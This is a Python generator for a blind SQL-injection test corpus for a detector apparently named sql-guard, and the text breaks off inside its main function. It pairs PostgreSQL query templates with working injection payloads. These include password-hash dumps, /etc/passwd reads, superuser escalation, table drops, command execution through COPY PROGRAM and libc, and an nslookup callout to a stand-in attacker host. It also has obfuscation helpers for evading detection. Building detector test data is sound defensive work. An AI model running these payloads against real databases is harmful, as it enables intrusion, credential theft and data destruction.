#!/usr/bin/env python3
"""Blind SQL-injection test corpus for sql-guard (third corpus).

Deterministic, Python 3.11 stdlib only.  Writes blind.jsonl.gz beside this file (gzip mtime 0, so runs are byte-identical).

Rows: application templates (b01..b36, none shared with dev/generalization)
filled with (a) attack payloads = technique core wrapped in a sqlmap-style
boundary (prefix value, closing sequence, tail) and optionally obfuscated, or
(b) benign tricky inputs escaped correctly for the slot, plus hand-written
complex benign statements (k_*).

Label: a small PostgreSQL lexer checks every slot.  attack only when the
input is not the single token its slot expects; payloads that stay inside
their literal become benign `contained_attack_string` rows.
"""
import json
import gzip
import io
import os
import random
import re

SEED = 20261123
R = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

# --------------------------------------------------------------------------
# Tiny PostgreSQL lexer: returns list of (kind, start, end)
# kinds: str, estr, dollar, qident, num, word, op, punct, comment, ws
# --------------------------------------------------------------------------
IDENT_START = re.compile(r"[A-Za-z_\u0080-\uffff]")
IDENT_CONT = re.compile(r"[A-Za-z0-9_$\u0080-\uffff]")
OPCHARS = set("+-*/<>=~!@#%^&|`?")


def lex(s):
    toks = []
    i, n = 0, len(s)
    while i < n:
        c = s[i]
        if c.isspace():
            j = i
            while j < n and s[j].isspace():
                j += 1
            toks.append(("ws", i, j)); i = j; continue
        if s.startswith("--", i):
            j = s.find("\n", i)
            j = n if j < 0 else j
            toks.append(("comment", i, j)); i = j; continue
        if s.startswith("/*", i):
            depth, j = 1, i + 2
            while j < n and depth:
                if s.startswith("/*", j):
                    depth += 1; j += 2
                elif s.startswith("*/", j):
                    depth -= 1; j += 2
                else:
                    j += 1
            toks.append(("comment", i, j)); i = j; continue
        if c in "eE" and i + 1 < n and s[i + 1] == "'":
            j = i + 2
            while j < n:
                if s[j] == "\\":
                    j += 2; continue
                if s[j] == "'":
                    if j + 1 < n and s[j + 1] == "'":
                        j += 2; continue
                    j += 1; break
                j += 1
            else:
                j = n + 1  # unterminated
            toks.append(("estr", i, min(j, n)) if j <= n else ("bad", i, n)); i = min(j, n); continue
        if c in "uU" and s.startswith("&'", i + 1):
            j = i + 3
            while j < n:
                if s[j] == "'":
                    if j + 1 < n and s[j + 1] == "'":
                        j += 2; continue
                    j += 1; break
                j += 1
            else:
                j = n + 1
            toks.append(("str", i, j) if j <= n else ("bad", i, n)); i = min(j, n); continue
        if c == "'":
            j = i + 1
            while j < n:
                if s[j] == "'":
                    if j + 1 < n and s[j + 1] == "'":
                        j += 2; continue
                    j += 1; break
                j += 1
            else:
                j = n + 1
            toks.append(("str", i, j) if j <= n else ("bad", i, n)); i = min(j, n); continue
        if c == '"':
            j = i + 1
            while j < n:
                if s[j] == '"':
                    if j + 1 < n and s[j + 1] == '"':
                        j += 2; continue
                    j += 1; break
                j += 1
            else:
                j = n + 1
            toks.append(("qident", i, j) if j <= n else ("bad", i, n)); i = min(j, n); continue
        if c == "$":
            m = re.match(r"\$([A-Za-z_][A-Za-z0-9_]*)?\$", s[i:])
            if m:
                tag = m.group(0)
                k = s.find(tag, i + len(tag))
                if k < 0:
                    toks.append(("bad", i, n)); i = n; continue
                toks.append(("dollar", i, k + len(tag))); i = k + len(tag); continue
            m = re.match(r"\$\d+", s[i:])
            if m:
                toks.append(("param", i, i + m.end())); i += m.end(); continue
        if c.isdigit() or (c == "." and i + 1 < n and s[i + 1].isdigit()):
            m = re.match(r"(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", s[i:])
            toks.append(("num", i, i + m.end())); i += m.end(); continue
        if IDENT_START.match(c):
            j = i + 1
            while j < n and IDENT_CONT.match(s[j]):
                j += 1
            toks.append(("word", i, j)); i = j; continue
        if c in OPCHARS:
            j = i
            while j < n and s[j] in OPCHARS:
                if s.startswith("--", j) or s.startswith("/*", j):
                    break
                j += 1
            if j == i:
                j = i + 1
            toks.append(("op", i, j)); i = j; continue
        if c == ":" and s.startswith("::", i):
            toks.append(("op", i, i + 2)); i += 2; continue
        toks.append(("punct", i, i + 1)); i += 1
    return toks


def slot_ok(sql, kind, a, b):
    """Is sql[a:b] (the slot content) exactly what the slot expects?"""
    toks = [t for t in lex(sql)]
    if kind in ("str", "estr", "ident"):
        q = '"' if kind == "ident" else "'"
        want = {"str": "str", "estr": "estr", "ident": "qident"}[kind]
        open_pos = sql.rfind(q, 0, a) - (1 if kind == "estr" else 0)
        close_end = sql.index(q, b) + 1 if False else None
        # closing quote position comes from the template text after the slot
        for t in toks:
            if t[1] == open_pos:
                return t[0] == want and t[2] == b + SUFFIX_CLOSE[0]
        return False
    inner = [t for t in toks if t[1] < b and t[2] > a]
    # token boundaries must coincide with slot bounds
    if not inner or inner[0][1] != a or inner[-1][2] != b:
        return False
    sig = [t for t in inner if t[0] != "ws"]
    if kind == "num":
        return len(sig) == 1 and sig[0][0] == "num"
    words = [sql[t[1]:t[2]].lower() for t in sig]
    if any(t[0] not in ("word", "qident") for t in sig):
        return False
    if kind == "dir":
        return words in (["asc"], ["desc"])
    if kind == "col":
        if not words:
            return False
        rest = words[1:]
        if rest[:1] in (["asc"], ["desc"]):
            rest = rest[1:]
        if rest in (["nulls", "first"], ["nulls", "last"]):
            rest = []
        return rest == [] and words[0] not in ("select", "union", "from", "where", "and", "or")
    raise ValueError(kind)


# --------------------------------------------------------------------------
# Templates.  {s} marks the slot; a template may repeat the same slot.
# ctx: str | estr | ident | num | col | dir ; like: True when inside %..%
# close: the right closing sequence for sqlmap-style breakout
# reopen: suffix that re-balances what the template closes after the slot
# --------------------------------------------------------------------------
T = []


def tpl(name, sql, ctx, close="'", reopen=" AND 'k'='k", benign=None, like=False):
    T.append(dict(name=name, sql=sql, ctx=ctx, close=close, reopen=reopen, benign=benign, like=like))


tpl("b01_rollup_channel",
    "SELECT region, product_line, sum(amount) AS total FROM sales WHERE fiscal_year = 2024 AND channel = '{s}' GROUP BY ROLLUP (region, product_line) ORDER BY region NULLS FIRST, product_line", "str")
tpl("b02_filter_agg_assignee",
    "SELECT count(*) FILTER (WHERE status = 'open') AS open_total, count(*) FILTER (WHERE assignee = '{s}') AS mine FROM tickets WHERE project_id = 42", "str",
    close="')", reopen=" AND ('k'='k")
tpl("b03_tsrank_search",
    "SELECT id, title, ts_rank(search_vec, plainto_tsquery('english', '{s}')) AS rank FROM articles WHERE search_vec @@ plainto_tsquery('english', '{s}') ORDER BY rank DESC LIMIT 20", "str",
    close="')", reopen=" AND ('k'='k")
tpl("b04_recursive_chain",
    "WITH RECURSIVE chain AS (SELECT id, manager_id, full_name, 1 AS depth FROM employees WHERE full_name = '{s}' UNION ALL SELECT e.id, e.manager_id, e.full_name, c.depth + 1 FROM employees e JOIN chain c ON e.id = c.manager_id) SELECT id, full_name, depth FROM chain ORDER BY depth", "str")
tpl("b05_jsonpath_sku",
    "SELECT id, placed_at FROM orders WHERE jsonb_path_exists(details, '$.items[*] ? (@.sku == $sku)', jsonb_build_object('sku', '{s}')) ORDER BY placed_at DESC", "str",
    close="'))", reopen=" AND (('k'='k")
tpl("b06_array_overlap_tags",
    "SELECT id, name FROM recipes WHERE tags && ARRAY['{s}', 'quick']::text[] ORDER BY name LIMIT 30", "str",
    close="']", reopen=" AND 'k'='k")
tpl("b07_range_contains",
    "SELECT room_id, during FROM bookings WHERE during @> '{s}'::timestamptz AND room_id IN (SELECT id FROM rooms WHERE floor = 3)", "str")
tpl("b08_store_distance",
    "SELECT id, name FROM stores WHERE ST_DWithin(geom::geography, ST_SetSRID(ST_MakePoint(13.40, 52.52), 4326)::geography, {s}) ORDER BY name", "num",
    close=")", reopen=" AND (1=1")
tpl("b09_skip_locked_worker",
    "UPDATE jobs SET state = 'running', worker = '{s}', started_at = now() WHERE id = (SELECT id FROM jobs WHERE state = 'queued' ORDER BY priority DESC, id FOR UPDATE SKIP LOCKED LIMIT 1) RETURNING id, payload", "str",
    reopen=", note = 'k")
tpl("b10_pg_notify",
    "SELECT pg_notify('order_events', '{s}')", "str", close="')", reopen=" AND ('k'='k")
tpl("b11_execute_prepared",
    "EXECUTE get_invoice('{s}', 2024)", "str", close="',1)", reopen=", ('k'")
tpl("b12_call_procedure",
    "CALL archive_customer('{s}', true)", "str", close="', false)", reopen=", ('k'")
tpl("b13_set_local_user",
    "SET LOCAL app.user_id = '{s}'", "str", reopen="")
tpl("b14_table_function",
    "SELECT * FROM search_catalog('{s}', 3) AS r(id int, score real) WHERE score > 0.2", "str",
    close="', 3)", reopen=" AND ('k'='k")
tpl("b15_insert_feedback_returning",
    "INSERT INTO feedback (user_id, body, created_at) VALUES (17, '{s}', now()) RETURNING id, created_at", "str",
    close="', now())", reopen=", 'k")
tpl("b16_order_nulls_last",
    "SELECT id, title, due_date FROM tasks WHERE owner_id = 9 ORDER BY {s} NULLS LAST, id", "col", close="", reopen="")
tpl("b17_quoted_metric_column",
    "SELECT day, \"{s}\" FROM report_metrics WHERE day >= current_date - 7 ORDER BY day", "ident", close='"', reopen=' AND "k"="k')
tpl("b18_like_escape_path",
    "SELECT id, path FROM files WHERE path LIKE '%{s}%' ESCAPE '!' ORDER BY path", "str", like=True,
    close="%'", reopen=" AND 'a%'='a")
tpl("b19_similar_to_code",
    "SELECT code, discount FROM promo_codes WHERE code SIMILAR TO '{s}' AND active AND expires_at > now()", "str")
tpl("b20_regexp_flags",
    "SELECT id, regexp_replace(body, '\\s+', ' ', '{s}') AS body FROM notes WHERE notebook_id = 3", "str",
    close="')", reopen=" AND ('k'='k")
tpl("b21_to_char_format",
    "SELECT to_char(created_at, '{s}') AS bucket, count(*) FROM signups GROUP BY 1 ORDER BY 1", "str",
    close="')", reopen=" AND ('k'='k")
tpl("b22_at_time_zone",
    "SELECT id, starts_at AT TIME ZONE '{s}' AS local_start FROM meetings WHERE calendar_id = 5 ORDER BY starts_at", "str")
tpl("b23_offset_fetch",
    "SELECT id, sku, price FROM products WHERE archived = false ORDER BY id OFFSET {s} ROWS FETCH FIRST 25 ROWS ONLY", "num", close="", reopen="")
tpl("b24_interval_text",
    "SELECT count(*) FROM logins WHERE created_at > now() - interval '{s}' AND success", "str")
tpl("b25_cube_warehouse",
    "SELECT brand, color, count(*) AS n FROM items WHERE warehouse = '{s}' GROUP BY CUBE (brand, color) HAVING count(*) > 1 ORDER BY n DESC", "str")
tpl("b26_generated_volume",
    "SELECT id, length_cm, width_cm, height_cm, volume_cm3 FROM parcels WHERE volume_cm3 > {s} AND shipped IS NOT TRUE", "num", close="", reopen="")
tpl("b27_copy_delimiter",
    "COPY staging_contacts (email, full_name) FROM STDIN WITH (FORMAT csv, HEADER true, DELIMITER '{s}')", "str",
    close="')", reopen=", QUOTE 'k")
tpl("b28_fetch_first_n",
    "SELECT ts, actor, action FROM audit_log WHERE actor <> 'system' ORDER BY ts DESC FETCH FIRST {s} ROWS ONLY", "num", close="", reopen="")
tpl("b29_score_direction",
    "SELECT name, score FROM players WHERE season = 2025 ORDER BY score {s} NULLS LAST, name", "dir", close="", reopen="")
tpl("b30_upsert_prefs_jsonb",
    "INSERT INTO prefs (user_id, data) VALUES (5, '{s}'::jsonb) ON CONFLICT (user_id) DO UPDATE SET data = prefs.data || EXCLUDED.data", "str",
    close="'::jsonb)", reopen=", 'k")
tpl("b31_estr_regex",
    "SELECT id, subject FROM messages WHERE body ~* E'{s}' AND folder = 'inbox'", "estr")
tpl("b32_xpath_doc",
    "SELECT xpath('/invoice/total/text()', doc) FROM xml_docs WHERE doc_name = '{s}'", "str")
tpl("b33_interval_days_num",
    "SELECT id, email FROM subscriptions WHERE renew_at < now() + {s} * interval '1 day' AND cancelled_at IS NULL", "num", close="", reopen="")
tpl("b34_case_threshold",
    "SELECT id, CASE WHEN balance > {s} THEN 'gold' ELSE 'standard' END AS tier FROM accounts WHERE branch_id = 7", "num", close="", reopen="")
tpl("b35_grouping_sets_country",
    "SELECT country, city, GROUPING(country, city) AS g, sum(revenue) FROM shop_stats WHERE country = '{s}' GROUP BY GROUPING SETS ((country, city), (country), ()) ORDER BY 1, 2", "str")
tpl("b36_lock_nowait_sku",
    "SELECT id, qty FROM stock WHERE sku = '{s}' AND location_id = 2 FOR NO KEY UPDATE NOWAIT", "str")

# --------------------------------------------------------------------------
# Attack cores: (technique, name, text).  Text follows a closed slot and a
# space; it starts with a connector (AND/OR/UNION/;/ORDER BY...).
# --------------------------------------------------------------------------
CORES = [
    # boolean blind
    ("boolean_blind", "pg_sleep0_eq", "AND 7533=(SELECT 7533 FROM PG_SLEEP(0))"),
    ("boolean_blind", "ascii_substr_user", "AND ASCII(SUBSTR((SELECT COALESCE(CAST(current_user AS TEXT),' ')),1,1))>64"),
    ("boolean_blind", "datname_first", "AND (SELECT SUBSTRING(datname,1,1) FROM pg_database ORDER BY oid LIMIT 1)='p'"),
    ("boolean_blind", "len_db_gt", "AND LENGTH(current_database())>3"),
    ("boolean_blind", "case_ascii_version", "AND 1=(CASE WHEN (ASCII(SUBSTR(version(),1,1))=80) THEN 1 ELSE 0 END)"),
    ("boolean_blind", "count_shadow", "AND (SELECT COUNT(*) FROM pg_shadow)>0"),
    ("boolean_blind", "or_not_neq", "OR NOT 2231=2232"),
    ("boolean_blind", "and_num_eq", "AND 3342=3342"),
    ("boolean_blind", "rolsuper_exists", "AND EXISTS(SELECT 1 FROM pg_roles WHERE rolname=current_user AND rolsuper)"),
    ("boolean_blind", "strpos_version", "AND strpos(version(),'PostgreSQL')=1"),
    # tautology
    ("tautology", "or_x_eq_x", "OR 'x'='x'"),
    ("tautology", "or_2_gt_1", "OR 2>1"),
    ("tautology", "or_true", "OR TRUE"),
    ("tautology", "or_in_list", "OR 'a' IN ('a','b')"),
    ("tautology", "or_between", "OR 5 BETWEEN 1 AND 9"),
    ("tautology", "or_empty_eq", "OR ''=''"),
    ("tautology", "or_like_self", "OR 'k' LIKE 'k'"),
    ("tautology", "or_is_distinct", "OR 1 IS NOT DISTINCT FROM 1"),
    # error based
    ("error_based", "cast_chr_version_numeric", "AND 1=CAST((CHR(113)||CHR(106)||CHR(112)||(SELECT version())||CHR(113)) AS NUMERIC)"),
    ("error_based", "setting_int", "AND 5=(SELECT current_setting('server_version')::int)"),
    ("error_based", "usename_agg_int", "AND 1=(SELECT CAST(string_agg(usename,',') AS int) FROM pg_user)"),
    ("error_based", "div_select_zero", "AND 1=1/(SELECT 0)"),
    ("error_based", "to_number_user", "AND 7=(SELECT to_number(current_user,'999'))"),
    ("error_based", "read_file_int", "AND CAST(pg_read_file('/etc/hostname') AS int)=1"),
    ("error_based", "xmlparse_version", "AND 1=(SELECT xmlparse(document version()))::text::int"),
    ("error_based", "regclass_probe", "AND 'secret_keys'::regclass IS NOT NULL"),
    # time based
    ("time_based", "sub_sleep_eq", "AND 4411=(SELECT 4411 FROM PG_SLEEP(5))"),
    ("time_based", "heavy_series", "AND 1=(SELECT COUNT(*) FROM generate_series(1,5000000))"),
    ("time_based", "sleep_for_null", "AND (SELECT pg_sleep_for('4 seconds')) IS NULL"),
    ("time_based", "case_sleep", "AND CASE WHEN 1=1 THEN (SELECT 1 FROM pg_sleep(3)) ELSE 1 END=1"),
    ("time_based", "or_series_heavy", "OR 1=(SELECT 1 FROM generate_series(1,1000000) LIMIT 1)"),
    ("time_based", "sleep_until", "AND pg_sleep_until(now()+interval '6 seconds') IS NOT NULL"),
    ("time_based", "md5_heavy", "AND (SELECT count(md5(g::text)) FROM generate_series(1,3000000) g)>0"),
    # union
    ("union_based", "null3", "UNION SELECT NULL,NULL,NULL"),
    ("union_based", "shadow_dump", "UNION ALL SELECT usename,passwd,NULL FROM pg_shadow"),
    ("union_based", "version_mid", "UNION SELECT 1,version(),3"),
    ("union_based", "info_tables", "UNION SELECT table_name,NULL FROM information_schema.tables"),
    ("union_based", "typed_nulls", "UNION ALL SELECT NULL::int,NULL::text,current_database()"),
    ("union_based", "values_arm", "UNION VALUES (1,'a',pg_read_file('/etc/passwd'))"),
    # order by / group by probing
    ("order_by_probe", "order_7", "ORDER BY 7"),
    ("order_by_probe", "order_1_3", "ORDER BY 1,2,3"),
    ("order_by_probe", "group_having", "GROUP BY 1,2,3 HAVING 1=1"),
    # stacked
    ("stacked", "semicolon_sleep", "; SELECT pg_sleep(5)"),
    ("stacked", "commit_drop", ";COMMIT;DROP TABLE sessions"),
    ("stacked", "truncate_audit", "; TRUNCATE audit_log"),
    ("stacked", "insert_admin", "; INSERT INTO admins(login) VALUES ('eve')"),
    ("stacked", "alter_role_super", "; ALTER ROLE app_user SUPERUSER"),
    ("stacked", "grant_public", "; GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC"),
    ("stacked", "update_is_admin", "; UPDATE users SET is_admin=true WHERE login='eve'"),
    ("stacked", "replication_role", "; SET session_replication_role = replica"),
    ("stacked", "rollback_delete", ";ROLLBACK;DELETE FROM invoices"),
    ("stacked", "create_user", "; CREATE USER backdoor WITH PASSWORD 'pw' SUPERUSER"),
    # out of band / file
    ("pg_specific_oob", "copy_to_program_nslookup", "; COPY (SELECT '') TO PROGRAM 'nslookup x9.attacker.tld'"),
    ("pg_specific_oob", "dblink_connect", "; SELECT dblink_connect('host=203.0.113.9 user=u password=p dbname=d')"),
    ("pg_specific_oob", "lo_import_passwd", "AND lo_import('/etc/passwd') > 0"),
    ("pg_specific_oob", "union_read_file", "UNION SELECT pg_read_file('/etc/passwd'),NULL"),
    ("pg_specific_oob", "create_func_c", "; CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE c STRICT"),
    ("pg_specific_oob", "copy_from_program_id", "; CREATE TABLE o(t text); COPY o FROM PROGRAM 'id'"),
    ("pg_specific_oob", "ls_dir", "AND (SELECT pg_ls_dir('.') LIMIT 1) IS NOT NULL"),
    ("pg_specific_oob", "dblink_send", "AND (SELECT dblink_send_query('host=198.51.100.7 dbname=x','SELECT 1')) = 1"),
    ("pg_specific_oob", "lo_export", "; SELECT lo_export(16401, '/tmp/x.so')"),
    # PL/pgSQL
    ("plpgsql_do", "do_execute_drop", "; DO $$BEGIN EXECUTE 'DROP TABLE users'; END$$"),
    ("plpgsql_do", "do_tag_sleep", "; DO $x$ BEGIN PERFORM pg_sleep(3); END $x$"),
    ("plpgsql_do", "create_fn_plpgsql", "; CREATE OR REPLACE FUNCTION pwn() RETURNS void AS $$ BEGIN EXECUTE 'ALTER ROLE app SUPERUSER'; END $$ LANGUAGE plpgsql"),
    ("plpgsql_do", "do_chr_format", "; DO LANGUAGE plpgsql $q$ BEGIN EXECUTE format('%s', chr(68)||'ROP TABLE x'); END $q$"),
    # foreign dialect (sqlmap tries these too)
    ("foreign_dialect", "or_hash_comment", "OR 8571=8571#"),
    ("foreign_dialect", "mysql_sleep", "AND SLEEP(5)"),
    ("foreign_dialect", "ord_mid", "AND ORD(MID((SELECT IFNULL(CAST(user() AS CHAR),0x20)),1,1))>64"),
    ("foreign_dialect", "waitfor", "; WAITFOR DELAY '0:0:5'"),
    ("foreign_dialect", "convert_version", "AND 1=CONVERT(int,@@version)"),
    ("foreign_dialect", "dbms_pipe", "AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)"),
    ("foreign_dialect", "benchmark", "AND BENCHMARK(5000000,MD5(1))"),
]

# Cores suitable for obfuscation (no dollar/complex quoting issues)
OBF_BASE = ["pg_sleep0_eq", "ascii_substr_user", "or_x_eq_x", "or_2_gt_1", "setting_int",
            "sub_sleep_eq", "shadow_dump", "null3", "semicolon_sleep", "update_is_admin",
            "copy_to_program_nslookup", "cast_chr_version_numeric", "count_shadow"]

# String-concat cores (only for string slots; they close and reopen the quote)
CONCAT = [
    ("subquery_concat", "concat_current_user", "'||(SELECT current_user)||'"),
    ("subquery_concat", "concat_sleep", "'||pg_sleep(3)||'"),
    ("subquery_concat", "concat_shadow", "'||(SELECT string_agg(passwd,',') FROM pg_shadow)||'"),
    ("subquery_concat", "concat_setting", "'||current_setting('data_directory')||'"),
    ("subquery_concat", "concat_read_file", "'||(SELECT pg_read_file('/etc/passwd',0,64))||'"),
]

PREFIXES_STR = ["x", "1", "admin", "test", "eu-west", "4172", ""]
PREFIXES_NUM = ["1", "42", "0", "9813", "-1"]
TAILS = ["--", "-- -", "--+", "/*", "-- x", ";--", None]  # None = reopen/balance
WRONG_CLOSE = ['"', "'))", "`", "')", ")"]


def casemix(s, rnd):
    out = []
    in_q = False
    for ch in s:
        if ch == "'":
            in_q = not in_q
        if ch.isalpha() and not in_q:
            ch = ch.upper() if rnd.random() < 0.5 else ch.lower()
        out.append(ch)
    return "".join(out)


def split_outside_quotes(s, fn):
    """Apply fn to the spaces outside single-quoted strings."""
    out, in_q = [], False
    for ch in s:
        if ch == "'":
            in_q = not in_q
        out.append(fn(ch) if (ch == " " and not in_q) else ch)
    return "".join(out)


def obf_inline(s, rnd):
    return split_outside_quotes(s, lambda c: rnd.choice(["/**/", "/*x*/", "/**/ ", "/*!*/"]))


def obf_ws(s, rnd):
    return split_outside_quotes(s, lambda c: rnd.choice(["\n", "\t", "\r\n", "\x0c", "\t\n", "\n "]))


def obf_nospace(s, rnd):
    # replace spaces with () tricks or nothing where possible
    s = re.sub(r" (?=\()", "", s)
    s = re.sub(r"(?<=\)) ", "", s)
    return split_outside_quotes(s, lambda c: "/**/")


def str_literals(s):
    return list(re.finditer(r"'((?:[^']|'')*)'", s))


def obf_lit(s, conv):
    res, last = [], 0
    for m in str_literals(s):
        res.append(s[last:m.start()]); res.append(conv(m.group(1).replace("''", "'"))); last = m.end()
    res.append(s[last:])
    return "".join(res)


def chr_concat(v):
    if not v:
        return "''"
    return "(" + "||".join(f"CHR({ord(c)})" for c in v) + ")"


def dollarq(v):
    return "$$" + v + "$$"


def ehex(v):
    return "E'" + "".join(f"\\x{ord(c):02x}" for c in v) + "'"


def uescape(v):
    return "U&'" + "".join(f"\\{ord(c):04x}" for c in v) + "'"


OBFS = {
    "obf_case_mix": casemix,
    "obf_inline_comment": obf_inline,
    "obf_whitespace": obf_ws,
    "obf_nospace": obf_nospace,
    "obf_chr_concat": lambda s, r: obf_lit(s, chr_concat),
    "obf_dollar_quote": lambda s, r: obf_lit(s, dollarq),
    "obf_e_escape": lambda s, r: obf_lit(s, ehex),
    "obf_unicode_escape": lambda s, r: obf_lit(s, uescape),
}
LIT_OBFS = {"obf_chr_concat", "obf_dollar_quote", "obf_e_escape", "obf_unicode_escape"}

# --------------------------------------------------------------------------
# Benign inputs by family
# --------------------------------------------------------------------------
BENIGN_STR = {
    "input_apostrophe_names": ["O'Connor", "D'Angelo & Sons", "Mary-Kate O'Hara", "l'Oréal Paris", "Rock 'n' Roll", "it's fine", "Côte d'Ivoire", "'quoted'"],
    "input_sql_words": ["Select Comfort mattress", "DROP-leaf table", "Union Pacific", "update weekly", "Order by phone", "delete me later", "Insert Coin Arcade", "1=1", "OR", "select * from", "Grant Thornton LLP", "truncate", "where is my order?", "and/or", "EXEC summary"],
    "input_punctuation": ["--help", "/* note */", "a;b;c", "#hashtag", "C:\\Users\\admin", "50% off!", "a_b%c", "(draft)", "x -- y", "semi;colon", "@@handle", "~/.bashrc", "[1,2,3]", "!important", "<>", "${HOME}", "$1", "$$", "$tag$"],
    "input_url_email": ["jane.doe+tag@example.com", "https://example.com/a?b=1&c=2", "ftp://files.example.org/pub/", "o'neil@example.ie", "http://x.test/?q=1'--", "mailto:ops@example.net"],
    "input_json_text": ['{"theme":"dark","size":12}', '{"q":"it\'s"}', '[{"id":1},{"id":2}]', '{"sql":"SELECT 1"}', '{"a":null}', '{"path":"/a/b","n":-1.5e3}'],
    "input_unicode": ["Zürich", "東京都", "Ελληνικά", "emoji 🎉 party", "naïve café", "Straße", "ʼ modifier apostrophe", "’curly’", "العربية", "Ünïcödé'"],
    "input_plain": ["north", "online", "Berlin", "widgets", "alice", "2024-05-01", "sku-88812", "blue", "retail", "gold member"],
    "input_long_text": [
        ("Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 12).strip(),
        "Dear team, please select the best option from the list, then update the order and union the results; we'll drop by later -- thanks! " * 4,
        "x" * 2000,
    ],
    "input_whitespace": ["  padded  ", "line1\nline2", "tab\tseparated", "\r\nwindows", " "],
    "input_code_snippet": ["SELECT id FROM t WHERE a = 'b'; -- comment", "if (x == 1) { return 'a'; }", "def f(): return \"it's\"", "<script>alert('x')</script>", "UNION SELECT password FROM users", "'; DROP TABLE students; --", "admin' --", "1' OR '1'='1"],
    "input_regex": ["^[a-z]+$", "\\d{3}-\\d{4}", "(foo|bar)*", "a.b?c+", "[^']+", "\\s+\\w+"],
}
SLOT_BENIGN_OVERRIDE = {
    "b07_range_contains": ("input_formatted", ["2025-03-14 10:00:00+01", "2025-12-31T23:59:59Z", "today", "2026-01-05 08:30", "epoch", "2025-07-01 12:00:00 Europe/Berlin"]),
    "b13_set_local_user": ("input_numeric_string", ["17", "a1b2c3d4-0000-4000-8000-000000000001", "user:42", "0", "O'Brien-7", "--1"]),
    "b20_regexp_flags": ("input_formatted", ["g", "gi", "i", "n", "x", "gx"]),
    "b21_to_char_format": ("input_formatted", ["YYYY-MM", "YYYY-\"W\"IW", "Day, DD Mon", "HH24:MI", "FMMonth YYYY", "Q\"Q\"-YYYY", "YYYY'MM"]),
    "b22_at_time_zone": ("input_formatted", ["Europe/Berlin", "America/Argentina/Buenos_Aires", "UTC", "+05:30", "Asia/Kolkata", "EST5EDT", "Pacific/Chatham"]),
    "b24_interval_text": ("input_formatted", ["7 days", "1 hour 30 minutes", "P1DT2H", "2 weeks", "00:15:00", "1 year 2 mons"]),
    "b27_copy_delimiter": ("input_formatted", [";", "|", "\t", ",", "'", "~"]),
    "b30_upsert_prefs_jsonb": ("input_json_text", ['{"theme":"dark"}', '{"name":"O\'Hara"}', '{"note":"--not a comment"}', '{"q":"select * from x"}', '{"tags":["a","b"],"n":1}', '{"html":"<b>\'x\'</b>"}']),
}
NUM_BENIGN = ["0", "1", "25", "100", "5000", "2.5", "0.75", "1e3", "007", "31536000", "18446744073709551615", ".5"]
COL_BENIGN = ["title", "due_date", "due_date DESC", "title ASC", "priority desc", "\"Due Date\"", "created_at", "owner_id asc", "updated_at"]
DIR_BENIGN = ["ASC", "DESC", "asc", "desc", "Desc"]
IDENT_BENIGN = ["revenue_eur", "Revenue (EUR)", "select", "order", "user", "he said \"hi\"", "drop table x", "a;b", "col--1", "Größe", "' OR 1=1 --", "1=1"]


def esc(ctx, v):
    if ctx == "str":
        return v.replace("'", "''")
    if ctx == "estr":
        return v.replace("\\", "\\\\").replace("'", "''")
    if ctx == "ident":
        return v.replace('"', '""')
    return v


rows = []
seen = set()


def fill(t, content):
    """Returns (sql, [(start,end)...]) for all slots."""
    parts = t["sql"].split("{s}")
    sql, spans = parts[0], []
    for p in parts[1:]:
        a = len(sql); sql += content; spans.append((a, len(sql))); sql += p
    return sql, spans


def slot_kind(t):
    return {"str": "str", "estr": "estr", "ident": "ident", "num": "num", "col": "col", "dir": "dir"}[t["ctx"]]


def add(sql, label, family, template, inp, variant):
    if sql in seen:
        return False
    seen.add(sql)
    rows.append(dict(sql=sql, label=label, family=family, template=template, input=inp, variant=variant))
    return True


SUFFIX_CLOSE = [1]


def check(t, content):
    sql, spans = fill(t, content)
    if t["ctx"] in ("str", "estr", "ident"):
        q = '"' if t["ctx"] == "ident" else "'"
        after = t["sql"].split("{s}")[1]
        SUFFIX_CLOSE[0] = after.index(q) + 1
    return sql, all(slot_ok(sql, slot_kind(t), a, b) for a, b in spans)


def add_benign(t, fam, v, variant_prefix="benign"):
    content = esc(t["ctx"], v)
    sql, ok = check(t, content)
    if not ok:
        raise SystemExit(f"benign fill escapes slot: {t['name']} {v!r}\n{sql}")
    add(sql, "benign", fam, t["name"], v, f"bx-{variant_prefix}:{fam}")


def boundary(t, rnd):
    ctx = t["ctx"]
    if ctx in ("str", "estr", "ident"):
        prefix = rnd.choice(PREFIXES_STR)
        if t["like"]:
            prefix = rnd.choice(["abc", "", "report"])
        close = t["close"] if rnd.random() < 0.8 else rnd.choice(WRONG_CLOSE)
    elif ctx == "num":
        prefix = rnd.choice(PREFIXES_NUM)
        close = rnd.choice(["", "", "", t["close"]]) if t["close"] else ""
        tail = rnd.choice(TAILS + [None, None])
        return prefix, close, tail
    elif ctx == "col":
        prefix, close = rnd.choice(["id", "title", "due_date", "1"]), ""
    else:
        prefix, close = rnd.choice(["ASC", "DESC"]), ""
    tail = rnd.choice(TAILS)
    return prefix, close, tail


def make_attack(t, tech, cname, core, rnd, obf=None):
    prefix, close, tail = boundary(t, rnd)
    if obf:
        core = OBFS[obf](core, rnd)
    if tail is None:
        reopen = t["reopen"] if close == t["close"] else ""
        if t["ctx"] in ("num", "col", "dir") and rnd.random() < 0.7:
            tail_s, tname = "", "none"
        elif core.rstrip().endswith(("$$", "$", "#")) or not reopen:
            tail_s, tname = "-- ", "comment"
        else:
            tail_s, tname = reopen, "reopen"
    else:
        tail_s, tname = tail, tail
    sep = "" if core.startswith(";") else " "
    payload = f"{prefix}{close}{sep}{core}"
    if tname == "reopen":
        payload += tail_s
    elif tname != "none":
        payload += ("" if tail_s.startswith(";") else " ") + tail_s
    fam = obf or tech
    var = f"bx:{('%s:' % obf) if obf else ''}{tech}:{cname}|close={close or 'none'} tail={tname}"
    sql, ok = check(t, payload)
    if ok:
        add(sql, "benign", "contained_attack_string", t["name"], payload, "contained:" + var)
        return False
    return add(sql, "attack", fam, t["name"], payload, var)


def main():
    rnd = R
    core_by_name = {c[1]: c for c in CORES}
    for t in T:
        ctx = t["ctx"]
        # ---- attacks: ~22 per template
        cores = rnd.sample(CORES, 14)
        for tech, cname, core in cores:
            make_attack(t, tech, cname, core, rnd)
        for obf in rnd.sample(sorted(OBFS), 5):
            base = core_by_name[rnd.choice(OBF_BASE)]
